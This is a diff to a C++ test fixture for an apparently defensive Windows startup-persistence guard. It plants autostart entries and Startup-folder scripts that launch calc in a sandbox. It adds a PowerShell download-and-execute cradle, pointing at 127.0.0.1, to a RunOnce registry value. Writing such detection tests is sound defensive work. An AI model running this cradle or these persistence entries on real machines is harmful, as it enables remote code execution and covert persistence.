@@ -1,6 +1,8 @@
 #include "support/Techniques.h"
 
 #include "guard/Places.h"
+#include "guard/RuleLists.h"
+#include "platform/files.h"
 #include "platform/system.h"
 #include "registry/Registry.h"
 
@@ -52,7 +54,10 @@ std::vector<Technique> Techniques(const std::function<std::string(const std::str
   const std::string rdp = program("rwt-rdp.exe");
   const std::string folder = program("rwt-startup");
   const std::string common_folder = program("rwt-common-startup");
-  return {
+  const std::string cradle = program("powershell.exe") +
+                             " -c \"IEX (New-Object Net.WebClient).DownloadString('http://"
+                             "127.0.0.1/rwt.ps1')\"";
+  std::vector<Technique> techniques = {
       item("Winlogon HKLM Userinit", kWinlogonKey, "Userinit", Sz("Userinit.exe, " + userinit_lm),
            userinit_lm),
       item("Winlogon HKLM Shell", kWinlogonKey, "Shell", Sz("explorer.exe, " + shell_lm), shell_lm),
@@ -92,7 +97,24 @@ std::vector<Technique> Techniques(const std::function<std::string(const std::str
       {"Common Startup folder moved (HKLM)", kCommonShellFoldersKey, "Common Startup",
        Sz(common_folder), common_folder, kKindMovedFolder,
        std::string(kCommonShellFoldersKey) + "\\Common Startup", false},
+      {"PowerShell cradle in RunOnce", kRunOnceKey, "NextRun", Sz(cradle), cradle, kKindRegistry,
+       kRunOnceKey, false, BackupStore::kStartupReg},
   };
+  // Scripts in both Startup folders where Windows keeps them, whether moved or not; each
+  // names its folder, so that no two have one digest.
+  for (const char* folder_value : {"Startup", "Common Startup"}) {
+    std::string folder = ExpandEnvironmentText(DefaultStartupFolderText(folder_value));
+    for (auto [name, text] :
+         {std::pair{"vbsstartup.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\" ' "},
+          std::pair{"jsestartup.jse", "new ActiveXObject(\"WScript.Shell\").Run(\"calc\"); // "},
+          std::pair{"batstartup.bat", "start calc & rem "}}) {
+      std::string path = folder + "\\" + name;
+      techniques.push_back({std::string(folder_value) + " folder " + name, folder, name,
+                            RegData{platform::kRegNone, text + std::string(folder_value)}, path,
+                            kKindFile, path, false, BackupStore::kStartupFolder});
+    }
+  }
+  return techniques;
 }
 
 std::vector<CleanValue> CleanWindowsValues() {
@@ -123,7 +145,14 @@ std::vector<CleanValue> CleanWindowsValues() {
 
 void OwnTechniquePlaces(RegistrySandbox& sandbox, const std::vector<Technique>& techniques) {
   for (const Technique& technique : techniques) {
-    if (technique.own_key)
+    if (technique.kind == kKindFile) {
+      // Muted or blocked, it waits in the pss folder; the second of a name as "name (2)".
+      std::string::size_type dot = technique.value.rfind('.');
+      for (const std::string& path : {technique.location, PssFolder() + "\\" + technique.value,
+                                      PssFolder() + "\\" + technique.value.substr(0, dot) + " (2)" +
+                                          technique.value.substr(dot)})
+        sandbox.OwnFile(path);
+    } else if (technique.own_key)
       sandbox.Own(technique.key);
     else
       sandbox.OwnValue(technique.key, technique.value);
@@ -139,7 +168,10 @@ void OwnTechniquePlaces(RegistrySandbox& sandbox, const std::vector<Technique>& 
 
 ::testing::AssertionResult Plant(const std::vector<Technique>& techniques) {
   for (const Technique& technique : techniques)
-    if (WriteRegRaw(technique.key, technique.value, technique.planted) != 0)
+    if (technique.kind == kKindFile
+            ? (platform::CreateFolder(technique.key),
+               !platform::WriteWholeFile(technique.location, technique.planted.bytes))
+            : WriteRegRaw(technique.key, technique.value, technique.planted) != 0)
       return ::testing::AssertionFailure() << "cannot plant " << technique.name;
   return ::testing::AssertionSuccess();
 }
@@ -153,9 +185,10 @@ void OwnTechniquePlaces(RegistrySandbox& sandbox, const std::vector<Technique>& 
 
 ::testing::AssertionResult AsPlanted(const std::vector<Technique>& techniques) {
   for (const Technique& technique : techniques) {
-    RegData data;
-    if (!ReadRegRaw(technique.key, technique.value, &data))
-      return ::testing::AssertionFailure() << technique.name << ": the value is gone";
+    RegData data{technique.planted.type, ""};
+    if (technique.kind == kKindFile ? !platform::ReadWholeFile(technique.location, &data.bytes)
+                                    : !ReadRegRaw(technique.key, technique.value, &data))
+      return ::testing::AssertionFailure() << technique.name << ": it is gone";
     if (data != technique.planted) {
       std::string shown = data.bytes;
       for (char& c : shown)
